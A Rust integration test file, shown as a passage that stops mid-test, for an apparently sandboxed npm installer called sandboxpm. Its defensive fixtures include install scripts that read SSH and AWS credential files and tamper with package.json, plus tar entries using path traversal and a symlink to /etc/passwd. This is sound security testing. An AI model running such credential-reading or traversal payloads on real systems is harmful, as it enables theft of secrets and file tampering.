//! `sandboxpm install` end to end against a loopback fixture registry (hermetic), and one
//! realistic app against the registry npm is configured with.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use sandboxpm_test_support::{FixtureRegistry, PackageBuilder, RawEntry};

struct Project {
    _dir: tempfile::TempDir,
    root: PathBuf,
    home: PathBuf,
}

impl Project {
    fn new(package_json: &str) -> Project {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("app");
        let home = dir.path().join("sandboxpm-home");
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(root.join("package.json"), package_json).unwrap();
        Project {
            _dir: dir,
            root,
            home,
        }
    }

    fn install(&self, registry: &str, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_sandboxpm"))
            .arg("install")
            .args(args)
            .current_dir(&self.root)
            .env("SANDBOXPM_HOME", &self.home)
            .env("npm_config_registry", registry)
            .env("npm_config_userconfig", self.home.join("no-user-npmrc"))
            .output()
            .unwrap()
    }

    /// Blobs and indexes (the store's lock file and empty directories are not contents).
    fn store_files(&self) -> usize {
        let store = self.home.join("store/v2");
        count_files(&store.join("files")) + count_files(&store.join("index"))
    }
}

fn count_files(dir: &Path) -> usize {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return 0;
    };
    entries
        .flatten()
        .map(|e| {
            if e.file_type().unwrap().is_dir() {
                count_files(&e.path())
            } else {
                1
            }
        })
        .sum()
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn registry_with_basics() -> FixtureRegistry {
    let registry = FixtureRegistry::start().unwrap();
    let b = PackageBuilder::new("b", "1.2.0")
        .file("index.js", "module.exports = 'b';\n")
        .build()
        .unwrap();
    let a = PackageBuilder::new("a", "1.0.0")
        .dependency("b", "^1.0.0")
        .file("index.js", "module.exports = 'a+' + require('b');\n")
        .bin("a-cli", "cli.js")
        .file_with_mode(
            "cli.js",
            "#!/usr/bin/env node\nconsole.log('A-CLI-RAN')\n",
            0o755,
        )
        .build()
        .unwrap();
    let scripted = PackageBuilder::new("scripted", "1.0.0")
        .script(
            "postinstall",
            "node -e \"require('fs').writeFileSync('ran','')\"",
        )
        .file("index.js", "")
        .build()
        .unwrap();
    registry.add(&b);
    registry.add(&a);
    registry.add(&scripted);
    registry
}

#[test]
fn installs_from_the_registry_with_an_isolated_layout() {
    let registry = registry_with_basics();
    let p = Project::new(r#"{"name":"app","dependencies":{"a":"^1.0.0","scripted":"1.0.0"}}"#);
    let out = p.install(&registry.url(), &["--ignore-scripts"]);
    assert!(out.status.success(), "{}", text(&out));
    let nm = p.root.join("node_modules");
    assert!(
        nm.join("a").exists()
            && nm
                .join(".sandboxpm/a@1.0.0/node_modules/a/index.js")
                .exists()
    );
    assert!(
        !nm.join("b").exists(),
        "a transitive dependency is visible at the root"
    );
    assert!(nm.join(".sandboxpm/a@1.0.0/node_modules/b").exists());
    // The scripted package is installed, its script is listed and NOT run.
    assert!(
        text(&out).contains("scripted@1.0.0  (scripts not run)"),
        "{}",
        text(&out)
    );
    assert!(
        !nm.join(".sandboxpm/scripted@1.0.0/node_modules/scripted/ran")
            .exists()
    );
    // The lockfile is registry-relative: no host in it.
    let lock = std::fs::read_to_string(p.root.join("sandboxpm-lock.json")).unwrap();
    assert!(
        lock.contains("\"resolved\": \"/a/-/a-1.0.0.tgz\""),
        "{lock}"
    );
    assert!(!lock.contains("127.0.0.1"), "{lock}");
    if let Ok(node) = which("node") {
        let out = Command::new(&node)
            .args(["-e", "console.log(require('a'))"])
            .current_dir(&p.root)
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "a+b");
        let out = Command::new(&node)
            .args(["-e", "require('b')"])
            .current_dir(&p.root)
            .output()
            .unwrap();
        assert!(
            !out.status.success(),
            "b is requireable from the root (phantom dependency)"
        );
        let out = Command::new(nm.join(".bin/a-cli")).output().unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "A-CLI-RAN");
    }
}

fn which(name: &str) -> Result<PathBuf, ()> {
    std::env::split_paths(&std::env::var_os("PATH").ok_or(())?)
        .map(|d| d.join(name))
        .find(|p| p.is_file())
        .ok_or(())
}

#[test]
fn a_tampered_tarball_fails_and_leaves_nothing_behind() {
    let registry = registry_with_basics();
    registry.tamper_tarball("b", "1.2.0");
    let p = Project::new(r#"{"name":"app","dependencies":{"a":"^1.0.0"}}"#);
    let out = p.install(&registry.url(), &[]);
    assert!(!out.status.success(), "{}", text(&out));
    let t = text(&out);
    assert!(
        t.contains("b@1.2.0"),
        "the error does not name the package: {t}"
    );
    assert!(
        t.to_lowercase().contains("integrity") || t.contains("sha512"),
        "{t}"
    );
    // Nothing of b reached the store's blobs or node_modules.
    assert!(!p.root.join("node_modules/.sandboxpm/b@1.2.0").exists());
    let index_dir = p.home.join("store/v2/index");
    let indexes = std::fs::read_dir(&index_dir)
        .map(|d| d.count())
        .unwrap_or(0);
    assert!(indexes <= 1, "more than a's index in the store: {indexes}");
}

#[test]
fn hostile_tar_entries_never_land_outside_the_package() {
    let registry = FixtureRegistry::start().unwrap();
    let evil = PackageBuilder::new("evil", "1.0.0")
        .file("index.js", "")
        .raw_entry(RawEntry::file("package/../../escaped.txt", b"x"))
        .raw_entry(RawEntry::symlink("package/link", "/etc/passwd"))
        .build()
        .unwrap();
    registry.add(&evil);
    let p = Project::new(r#"{"name":"app","dependencies":{"evil":"1.0.0"}}"#);
    let out = p.install(&registry.url(), &[]);
    assert!(out.status.success(), "{}", text(&out));
    let pkg = p
        .root
        .join("node_modules/.sandboxpm/evil@1.0.0/node_modules/evil");
    assert!(pkg.join("index.js").exists());
    assert!(!pkg.join("link").exists(), "a symlink entry was extracted");
    assert!(
        !p.root.join("escaped.txt").exists() && !p.root.join("node_modules/escaped.txt").exists()
    );
}

#[test]
fn the_lockfile_is_reused_without_any_request_and_frozen_detects_drift() {
    let registry = registry_with_basics();
    let p = Project::new(r#"{"name":"app","dependencies":{"a":"^1.0.0"}}"#);
    assert!(p.install(&registry.url(), &[]).status.success());
    let before = registry.total_requests();
    std::fs::remove_dir_all(p.root.join("node_modules")).unwrap();
    let out = p.install(&registry.url(), &["--frozen-lockfile"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(
        registry.total_requests(),
        before,
        "a lockfile + store install touched the network"
    );
    let files = p.store_files();
    // Drift: package.json changes, the frozen lockfile must refuse and name the dependency.
    std::fs::write(
        p.root.join("package.json"),
        r#"{"name":"app","dependencies":{"a":"^1.0.0","b":"^1.0.0"}}"#,
    )
    .unwrap();
    let out = p.install(&registry.url(), &["--frozen-lockfile"]);
    assert!(!out.status.success());
    assert!(text(&out).contains('b'), "{}", text(&out));
    assert_eq!(p.store_files(), files);
}

#[test]
fn a_broken_registry_gives_a_clear_error() {
    let registry = registry_with_basics();
    registry.fail_always("/a", 500);
    let p = Project::new(r#"{"name":"app","dependencies":{"a":"^1.0.0"}}"#);
    let out = p.install(&registry.url(), &[]);
    assert!(!out.status.success());
    let t = text(&out);
    assert!(t.contains("500") && t.contains('a'), "{t}");
    assert!(
        !p.root.join("sandboxpm-lock.json").exists(),
        "a failed install wrote a lockfile"
    );
}

#[test]
fn a_link_that_fails_leaves_the_lockfile_as_it_was() {
    let registry = registry_with_basics();
    let p = Project::new(r#"{"name":"app","dependencies":{"b":"^1.0.0"}}"#);
    let out = p.install(&registry.url(), &[]);
    assert!(out.status.success(), "{}", text(&out));
    let lock_path = p.root.join("sandboxpm-lock.json");
    let before = std::fs::read_to_string(&lock_path).unwrap();

    // Another dependency, and a file of someone else's where its link must go: the link fails
    // (naming the entry), while the new lockfile was being written beside the old one.
    std::fs::write(
        p.root.join("package.json"),
        r#"{"name":"app","dependencies":{"a":"^1.0.0","b":"^1.0.0"}}"#,
    )
    .unwrap();
    std::fs::write(p.root.join("node_modules/a"), "not sandboxpm's").unwrap();
    let out = p.install(&registry.url(), &[]);
    assert!(!out.status.success());
    assert!(text(&out).contains("node_modules/a"), "{}", text(&out));
    assert_eq!(std::fs::read_to_string(&lock_path).unwrap(), before);
    let leftovers: Vec<_> = std::fs::read_dir(&p.root)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".sandboxpm-tmp-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // Control: without the foreign entry the same install succeeds and records `a`.
    std::fs::remove_file(p.root.join("node_modules/a")).unwrap();
    let out = p.install(&registry.url(), &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        std::fs::read_to_string(&lock_path)
            .unwrap()
            .contains("\"a@1.0.0\"")
    );
}

#[test]
fn a_broken_package_json_names_the_file() {
    let p = Project::new("{ not json");
    let out = p.install("http://127.0.0.1:9/", &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out).contains("package.json"), "{}", text(&out));
}

/// The registry npm is configured with (never a host name written here); `None` without npm.
fn npm_registry() -> Option<String> {
    let out = Command::new("npm")
        .args(["config", "get", "registry"])
        .output()
        .ok()?;
    Some(String::from_utf8_lossy(&out.stdout).trim().to_string())
}

/// The realistic app of the issue, from the registry npm is configured with.
#[test]
fn real_registry_app_installs_and_its_tools_run() {
    let Some(registry) = npm_registry() else {
        eprintln!("skipping: npm is not installed");
        return;
    };
    let p = Project::new(include_str!("../../../bench/fixtures/app/package.json"));
    // esbuild's postinstall is approved, so it runs in the sandbox (network none) like any
    // approved script; whatever else has scripts stops the install, so it must be nothing.
    std::fs::write(p.root.join(".sandboxpmrc"), r#"{"whitelist": ["esbuild"]}"#).unwrap();
    let out = p.install(&registry, &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        text(&out).contains("esbuild@"),
        "esbuild's script did not run: {}",
        text(&out)
    );
    for tool in ["tsc", "eslint", "jest", "vite", "esbuild"] {
        let bin = p.root.join("node_modules/.bin").join(tool);
        let out = Command::new(&bin)
            .arg("--version")
            .current_dir(&p.root)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{tool} --version failed: {}",
            text(&out)
        );
    }
    let node = which("node").expect("node");
    for direct in [
        "react",
        "react-dom",
        "express",
        "@babel/core",
        "esbuild",
        "typescript",
    ] {
        let out = Command::new(&node)
            .args(["-e", &format!("require.resolve('{direct}')")])
            .current_dir(&p.root)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{direct} does not resolve from the root: {}",
            text(&out)
        );
    }
    // `accepts` is express's dependency, not the app's: no phantom access.
    let out = Command::new(&node)
        .args(["-e", "require.resolve('accepts')"])
        .current_dir(&p.root)
        .output()
        .unwrap();
    assert!(
        !out.status.success(),
        "a transitive dependency resolves from the root"
    );
    // esbuild got exactly its linux x64 package.
    let store = p.root.join("node_modules/.sandboxpm");
    let esbuild: Vec<String> = std::fs::read_dir(&store)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("@esbuild+"))
        .collect();
    if cfg!(all(
        target_os = "linux",
        target_arch = "x86_64",
        target_env = "gnu"
    )) {
        assert_eq!(esbuild.len(), 1, "{esbuild:?}");
        assert!(esbuild[0].starts_with("@esbuild+linux-x64@"), "{esbuild:?}");
    }
    let lock = std::fs::read_to_string(p.root.join("sandboxpm-lock.json")).unwrap();
    let host = registry
        .split("://")
        .nth(1)
        .unwrap_or_default()
        .split('/')
        .next()
        .unwrap_or_default();
    assert!(
        !host.is_empty() && !lock.contains(host),
        "the lockfile names the registry host"
    );
}

/// Real packages whose install scripts must succeed in the sandbox (network none) and leave
/// something that works: esbuild (its binary check), core-js (its postinstall), and
/// better-sqlite3, a native addon whose script tries to download a prebuilt binary, cannot (no
/// network), and compiles SQLite and the addon from source with node-gyp against the headers
/// node ships (about two minutes here).
#[cfg(target_os = "linux")]
#[test]
fn real_packages_build_their_scripts_sandboxed_and_then_work() {
    let Some(registry) = npm_registry() else {
        eprintln!("skipping: npm is not installed");
        return;
    };
    let p = Project::new(
        r#"{"name":"app","dependencies":{"esbuild":"0.25.0","core-js":"3.41.0","better-sqlite3":"12.4.1"}}"#,
    );
    std::fs::write(
        p.root.join(".sandboxpmrc"),
        r#"{"whitelist": ["esbuild", "core-js", "better-sqlite3"]}"#,
    )
    .unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_sandboxpm"));
    cmd.arg("install")
        .current_dir(&p.root)
        .env("SANDBOXPM_HOME", &p.home)
        .env("npm_config_registry", &registry)
        .env("npm_config_userconfig", p.home.join("no-user-npmrc"))
        .env("CI", "true")
        .env("SANDBOXPM_SCRIPT_OUTPUT", "1")
        .stdin(std::process::Stdio::null());
    let out = cmd.output().unwrap();
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    for package in ["esbuild@0.25.0", "core-js@3.41.0", "better-sqlite3@12.4.1"] {
        assert!(
            t.contains(&format!("--- {package} ")),
            "{package} ran no script: {t}"
        );
    }
    // Its download failed (no network in the sandbox), so it compiled the addon.
    assert!(t.contains("prebuild-install warn"), "{t}");
    let addon = p.root.join(
        "node_modules/.sandboxpm/better-sqlite3@12.4.1/node_modules/better-sqlite3/build/Release/better_sqlite3.node",
    );
    assert!(addon.is_file(), "better-sqlite3 was not compiled: {t}");
    let node = which("node").expect("node");
    let check = |script: &str| {
        let out = Command::new(&node)
            .args(["-e", script])
            .current_dir(&p.root)
            .output()
            .unwrap();
        assert!(out.status.success(), "{script}: {}", text(&out));
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    };
    assert_eq!(
        check(
            "const Db = require('better-sqlite3'); \
             console.log(new Db(':memory:').prepare('select 20 + 22 as x').get().x)"
        ),
        "42"
    );
    assert_eq!(
        check("require('core-js/actual/array/at'); console.log([1, 2, 3].at(-1))"),
        "3"
    );
    assert_eq!(
        check(
            "console.log(require('esbuild').transformSync('let x: number = 1', { loader: 'ts' }).code)"
        ),
        "let x = 1;"
    );
}

const HOME_SECRET: &str = "FAKE-SSH-KEY-0badc0de";

/// A registry with a package whose postinstall does legitimate work and attacks.
fn registry_with_scripts() -> FixtureRegistry {
    let registry = FixtureRegistry::start().unwrap();
    let script = "node -e \"const fs=require('fs');let loot='';\
for (const p of [process.env.HOME+'/.ssh/id_rsa', '../../../../../.ssh/id_rsa']) { try { loot += fs.readFileSync(p,'utf8') } catch (e) { loot += e.code+' ' } }\
try { fs.appendFileSync('../../../../../package.json', 'PWNED') ; loot += 'WROTE-PROJECT ' } catch (e) { loot += 'project:'+e.code+' ' }\
fs.writeFileSync('built.txt', 'BUILT'); fs.writeFileSync('loot.txt', loot)\"";
    let pkg = PackageBuilder::new("scripted", "1.0.0")
        .script("postinstall", script)
        .file("index.js", "")
        .build()
        .unwrap();
    registry.add(&pkg);
    registry
}

fn install_with_home(p: &Project, registry: &str, home: &Path) -> Output {
    install_with_env(p, registry, home, &[])
}

/// [`install_with_home`] with more environment variables.
fn install_with_env(p: &Project, registry: &str, home: &Path, env: &[(&str, &str)]) -> Output {
    let mut install = install_command(p, registry, home);
    install.envs(env.iter().copied()).output().unwrap()
}

/// `sandboxpm install` in `p` with the fake `home`, no terminal and `CI=true`, not yet run.
fn install_command(p: &Project, registry: &str, home: &Path) -> Command {
    let mut install = Command::new(env!("CARGO_BIN_EXE_sandboxpm"));
    install
        .arg("install")
        .current_dir(&p.root)
        .env("SANDBOXPM_HOME", &p.home)
        .env("HOME", home)
        .env("npm_config_registry", registry)
        .env("npm_config_userconfig", p.home.join("no-user-npmrc"))
        .env("CI", "true")
        .stdin(std::process::Stdio::null());
    install
}

#[test]
fn scripts_are_blocked_without_a_terminal_until_approved() {
    let registry = registry_with_scripts();
    let p = Project::new(r#"{"name":"app","dependencies":{"scripted":"1.0.0"}}"#);
    let home = p.root.parent().unwrap().join("fake-home");
    std::fs::create_dir_all(&home).unwrap();
    let out = install_with_home(&p, &registry.url(), &home);
    assert!(
        !out.status.success(),
        "an unapproved script did not stop the install: {}",
        text(&out)
    );
    let t = text(&out);
    assert!(
        t.contains("scripted@1.0.0") && t.contains("sandboxpm scripts approve"),
        "{t}"
    );
    let dir = p
        .root
        .join("node_modules/.sandboxpm/scripted@1.0.0/node_modules/scripted");
    assert!(
        dir.join("index.js").exists(),
        "the package was not linked before the block"
    );
    assert!(
        !dir.join("built.txt").exists(),
        "the script ran without approval"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn an_approved_malicious_script_runs_sandboxed() {
    let registry = registry_with_scripts();
    let p = Project::new(r#"{"name":"app","dependencies":{"scripted":"1.0.0"}}"#);
    // It opens the (decoy) SSH key: a block, reported and here let through.
    std::fs::write(
        p.root.join(".sandboxpmrc"),
        r#"{"whitelist": ["scripted@1.0.0"], "policies": {"onBlock": "continue"}}"#,
    )
    .unwrap();
    let home = p.root.parent().unwrap().join("fake-home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), HOME_SECRET).unwrap();
    let manifest_before = std::fs::read(p.root.join("package.json")).unwrap();
    let out = install_with_home(&p, &registry.url(), &home);
    let t = text(&out);
    assert!(out.status.success(), "{t}");
    assert!(t.contains("scripted@1.0.0"), "{t}");
    assert!(
        t.contains("blocked: scripted@1.0.0 postinstall: opened ~/.ssh/id_rsa"),
        "{t}"
    );
    let dir = p
        .root
        .join("node_modules/.sandboxpm/scripted@1.0.0/node_modules/scripted");
    // The control: the script's own work landed in its own directory.
    assert_eq!(
        std::fs::read_to_string(dir.join("built.txt")).unwrap(),
        "BUILT"
    );
    let loot = std::fs::read_to_string(dir.join("loot.txt")).unwrap();
    assert!(
        !loot.contains(HOME_SECRET),
        "the script read the home directory: {loot}"
    );
    assert!(
        !loot.contains("WROTE-PROJECT"),
        "the script wrote the project's package.json: {loot}"
    );

    assert!(!t.contains(HOME_SECRET));
    assert_eq!(
        std::fs::read(p.root.join("package.json")).unwrap(),
        manifest_before
    );
    // Its success is recorded beside its directory, with no pending marker left over.
    let virtual_dir = p.root.join("node_modules/.sandboxpm/scripted@1.0.0");
    assert!(virtual_dir.join(".sandboxpm-scripts-done").exists());
    assert!(!virtual_dir.join(".sandboxpm-scripts-pending").exists());
    // Its files are a private copy: the store's blob was not the file the script could write.
    let index = dir.join("index.js");
    use std::os::unix::fs::MetadataExt;
    assert_eq!(
        std::fs::metadata(&index).unwrap().nlink(),
        1,
        "a script-running package is hard-linked to the store"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn a_script_reading_decoy_credentials_is_reported_as_a_block() {
    let registry = FixtureRegistry::start().unwrap();
    let pkg = PackageBuilder::new("snoop", "1.0.0")
        .script(
            "postinstall",
            "cat ~/.ssh/id_rsa ~/.npmrc 2>/dev/null; true",
        )
        .file("index.js", "")
        .build()
        .unwrap();
    registry.add(&pkg);
    let home = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    for (on_block, succeeds) in [("abort", false), ("continue", true)] {
        let p = Project::new(r#"{"name":"app","dependencies":{"snoop":"1.0.0"}}"#);
        let rc = format!(r#"{{"whitelist": ["snoop"], "policies": {{"onBlock": "{on_block}"}}}}"#);
        std::fs::write(p.root.join(".sandboxpmrc"), rc).unwrap();
        let out = install_with_home(&p, &registry.url(), home.path());
        let t = text(&out);
        assert_eq!(out.status.success(), succeeds, "onBlock {on_block}: {t}");
        assert!(
            t.contains("blocked: snoop@1.0.0 postinstall read ~/.ssh/id_rsa"),
            "onBlock {on_block}: {t}"
        );
    }
}

/// Opening a decoy is a block even when nothing of it is printed or sent (the helper watches the
/// files, in a slot of the zygote's or one of its own); `~/.npmrc` is not watched, since npm
/// itself reads it.
#[cfg(target_os = "linux")]
#[test]
fn a_script_silently_opening_decoy_credentials_is_reported_as_a_block() {
    let registry = FixtureRegistry::start().unwrap();
    let pkg = PackageBuilder::new("quiet", "1.0.0")
        .script(
            "postinstall",
            "cat ~/.ssh/id_rsa > /dev/null; od -c ~/.aws/credentials > loot.txt; \
             cat ~/.npmrc > /dev/null; echo BUILT > built.txt",
        )
        .file("index.js", "")
        .build()
        .unwrap();
    registry.add(&pkg);
    // The control lists its home, and counts the decoys bound in from a watched slot.
    let clean = PackageBuilder::new("clean", "1.0.0")
        .script(
            "postinstall",
            "ls -a ~ > home.txt; grep -c sandboxpm-tripwires /proc/self/mountinfo > slots.txt; \
             echo BUILT > built.txt",
        )
        .file("index.js", "")
        .build()
        .unwrap();
    registry.add(&clean);
    let home = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    // In a slot of the zygote's (the default), then in a slot of each helper's own.
    for zygote in ["1", "0"] {
        let install = |p: &Project| {
            install_with_env(
                p,
                &registry.url(),
                home.path(),
                &[("SANDBOXPM_ZYGOTE", zygote)],
            )
        };
        // The control: listing the home opens no decoy, and the install passes.
        let p = Project::new(r#"{"name":"app","dependencies":{"clean":"1.0.0"}}"#);
        std::fs::write(p.root.join(".sandboxpmrc"), r#"{"whitelist": ["clean"]}"#).unwrap();
        let out = install(&p);
        let t = text(&out);
        assert!(out.status.success(), "zygote={zygote}: {t}");
        assert!(!t.contains("blocked"), "zygote={zygote}: {t}");
        let dir = p
            .root
            .join("node_modules/.sandboxpm/clean@1.0.0/node_modules/clean");
        assert!(
            std::fs::read_to_string(dir.join("home.txt"))
                .unwrap()
                .contains(".ssh")
        );
        assert_eq!(
            std::fs::read_to_string(dir.join("slots.txt")).unwrap(),
            "2\n",
            "zygote={zygote}"
        );

        let p = Project::new(r#"{"name":"app","dependencies":{"quiet":"1.0.0"}}"#);
        std::fs::write(p.root.join(".sandboxpmrc"), r#"{"whitelist": ["quiet"]}"#).unwrap();
        let out = install(&p);
        let t = text(&out);
        assert!(
            !out.status.success(),
            "zygote={zygote}: a block did not stop the install: {t}"
        );
        for decoy in ["~/.ssh/id_rsa", "~/.aws/credentials"] {
            assert!(
                t.contains(&format!("blocked: quiet@1.0.0 postinstall: opened {decoy}")),
                "zygote={zygote}: {decoy}: {t}"
            );
        }
        assert!(!t.contains("opened ~/.npmrc"), "{t}");
        // Nothing of the decoys was printed: only the opens gave it away. The script did run.
        use sandboxpm_scripts::decoys::{AWS_MARKER, SSH_MARKER};
        assert!(!t.contains(SSH_MARKER) && !t.contains(AWS_MARKER), "{t}");
        let dir = p
            .root
            .join("node_modules/.sandboxpm/quiet@1.0.0/node_modules/quiet");
        assert_eq!(
            std::fs::read_to_string(dir.join("built.txt")).unwrap(),
            "BUILT\n"
        );
        // What it read were the decoys (bound read-only, or written): the real home's files
        // never reach a sandbox.
        assert!(
            std::fs::read_to_string(dir.join("loot.txt"))
                .unwrap()
                .contains("a   w   s   _")
        );
    }
}

/// Ctrl-C in the middle of a script: the terminal signals the whole process group, the script
/// and its sandbox end, and the zygote, which outlives the installer only to clean up, still
/// removes its tripwire slots.
#[cfg(target_os = "linux")]
#[test]
fn ctrl_c_during_a_script_leaves_no_tripwire_slots_behind() {
    use std::os::unix::process::CommandExt;
    let registry = FixtureRegistry::start().unwrap();
    // It records where its decoys are bound from (the slot's directory, below /dev/shm or the
    // temporary directory), then waits to be interrupted.
    let pkg = PackageBuilder::new("waits", "1.0.0")
        .script(
            "postinstall",
            "grep -o 'sandboxpm-tripwires-[^/]*' /proc/self/mountinfo | head -1 > slot.txt; \
             sleep 60",
        )
        .file("index.js", "")
        .build()
        .unwrap();
    registry.add(&pkg);
    let p = Project::new(r#"{"name":"app","dependencies":{"waits":"1.0.0"}}"#);
    std::fs::write(p.root.join(".sandboxpmrc"), r#"{"whitelist": ["waits"]}"#).unwrap();
    let home = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let mut child = install_command(&p, &registry.url(), home.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .process_group(0)
        .spawn()
        .unwrap();
    let record = p
        .root
        .join("node_modules/.sandboxpm/waits@1.0.0/node_modules/waits/slot.txt");
    let started = std::time::Instant::now();
    let slot = loop {
        if let Ok(slot) = std::fs::read_to_string(&record)
            && slot.ends_with('\n')
        {
            break slot.trim().to_string();
        }
        assert!(
            started.elapsed() < std::time::Duration::from_secs(60),
            "the script never started"
        );
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert!(slot.starts_with("sandboxpm-tripwires-"), "{slot:?}");
    let dir = [Path::new("/dev/shm"), &std::env::temp_dir()]
        .iter()
        .map(|parent| parent.join(&slot))
        .find(|dir| dir.is_dir())
        .expect("the slot's directory exists while the script runs");
    let pgid = i32::try_from(child.id()).unwrap();
    // SAFETY: signalling the process group we started.
    assert_eq!(unsafe { libc::kill(-pgid, libc::SIGINT) }, 0);
    let status = child.wait().unwrap();
    assert!(!status.success());
    let gone = std::time::Instant::now();
    while dir.exists() && gone.elapsed() < std::time::Duration::from_secs(10) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(!dir.exists(), "{} was left behind", dir.display());
}

#[test]
fn an_unchanged_install_takes_the_shortcut_and_any_change_undoes_it() {
    let registry = registry_with_basics();
    let p = Project::new(r#"{"name":"app","dependencies":{"a":"^1.0.0","scripted":"1.0.0"}}"#);
    let first = p.install(&registry.url(), &["--ignore-scripts"]);
    assert!(first.status.success(), "{}", text(&first));
    assert!(!text(&first).contains("Already up to date"));
    let again = p.install(&registry.url(), &["--ignore-scripts"]);
    assert!(
        text(&again).contains("Already up to date"),
        "{}",
        text(&again)
    );
    // Scripts were skipped, so a plain install does not take the shortcut: it gets to the
    // scripts (and, without a terminal, blocks on them).
    let plain = p.install(&registry.url(), &[]);
    assert!(
        !text(&plain).contains("Already up to date"),
        "{}",
        text(&plain)
    );
    assert!(text(&plain).contains("scripted@1.0.0"), "{}", text(&plain));
    // A deleted root link is noticed and relinked.
    std::fs::remove_file(p.root.join("node_modules/a")).unwrap();
    let relink = p.install(&registry.url(), &["--ignore-scripts"]);
    assert!(relink.status.success(), "{}", text(&relink));
    assert!(!text(&relink).contains("Already up to date"));
    assert!(p.root.join("node_modules/a/index.js").exists());
    // A changed package.json is a full install: the removed dependency goes.
    std::fs::write(
        p.root.join("package.json"),
        r#"{"name":"app","dependencies":{"a":"^1.0.0"}}"#,
    )
    .unwrap();
    let changed = p.install(&registry.url(), &["--ignore-scripts"]);
    assert!(changed.status.success(), "{}", text(&changed));
    assert!(!text(&changed).contains("Already up to date"));
    assert!(!p.root.join("node_modules/scripted").exists());
    let settled = p.install(&registry.url(), &[]);
    assert!(
        text(&settled).contains("Already up to date"),
        "no scripts left, so a plain install is up to date: {}",
        text(&settled)
    );
}

/// Tarballs are fetched while the rest resolves, so a package can be fetched and then left out of
/// the graph: an optional dependency whose own dependency fails to resolve. Its failed fetch (a
/// tampered tarball) must not fail the install, and nothing of it may be linked.
#[test]
fn a_fetch_failing_for_a_package_the_graph_drops_does_not_fail_the_install() {
    let registry = FixtureRegistry::start().unwrap();
    registry.add(
        &PackageBuilder::new("good", "1.0.0")
            .file("index.js", "module.exports = 'good';\n")
            .build()
            .unwrap(),
    );
    registry.add(
        &PackageBuilder::new("flaky", "1.0.0")
            .dependency("nowhere", "^9.0.0")
            .file("index.js", "module.exports = 'flaky';\n")
            .build()
            .unwrap(),
    );
    registry.tamper_tarball("flaky", "1.0.0");
    registry.add(
        &PackageBuilder::new("nowhere", "1.0.0")
            .file("index.js", "")
            .build()
            .unwrap(),
    );
    let p = Project::new(
        r#"{"name":"app","dependencies":{"good":"1.0.0"},"optionalDependencies":{"flaky":"1.0.0"}}"#,
    );
    let out = p.install(&registry.url(), &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(p.root.join("node_modules/good/index.js").exists());
    assert!(!p.root.join("node_modules/flaky").exists());
    assert!(
        !p.root.join("node_modules/.sandboxpm/flaky@1.0.0").exists(),
        "a dropped package was linked"
    );
    // Otherwise this test would not test what it says: the tampered tarball was fetched.
    assert!(registry.requests(&FixtureRegistry::tarball_path("flaky", "1.0.0")) > 0);

    // The control: required, the same tampered tarball fails the install, naming it.
    registry.add(
        &PackageBuilder::new("nowhere", "9.0.0")
            .file("index.js", "")
            .build()
            .unwrap(),
    );
    let q = Project::new(r#"{"name":"app","dependencies":{"flaky":"1.0.0"}}"#);
    let out = q.install(&registry.url(), &[]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("flaky@1.0.0"), "{}", text(&out));
    assert!(!q.root.join("node_modules/flaky").exists());
}

#[test]
fn weak_integrity_is_a_warn_event_decided_before_extraction() {
    let registry = FixtureRegistry::start().unwrap();
    let mut old = PackageBuilder::new("old", "1.0.0")
        .file("index.js", "module.exports = 'old';\n")
        .build()
        .unwrap();
    old.integrity = String::new(); // sha1 only, like packages published before 2017
    registry.add(&old);
    let mut tampered = PackageBuilder::new("tampered-old", "1.0.0")
        .file("index.js", "module.exports = 'x';\n")
        .build()
        .unwrap();
    tampered.integrity = String::new();
    registry.add(&tampered);
    registry.tamper_tarball("tampered-old", "1.0.0");

    // Default `prompt`, no terminal: stops, having extracted nothing.
    let p = Project::new(r#"{"name":"app","dependencies":{"old":"1.0.0"}}"#);
    let out = p.install(&registry.url(), &[]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(
        text(&out).contains("old@1.0.0 (sha1 only)"),
        "{}",
        text(&out)
    );
    assert!(text(&out).contains("policies.onWarn"), "{}", text(&out));
    assert!(!p.root.join("node_modules/old").exists());
    assert_eq!(p.store_files(), 0, "something reached the store");

    // `continue`: installed, with the warning, and the sha1 was still checked.
    std::fs::write(
        p.root.join(".sandboxpmrc"),
        r#"{"policies":{"onWarn":"continue"}}"#,
    )
    .unwrap();
    let out = p.install(&registry.url(), &[]);
    assert!(out.status.success(), "{}", text(&out));
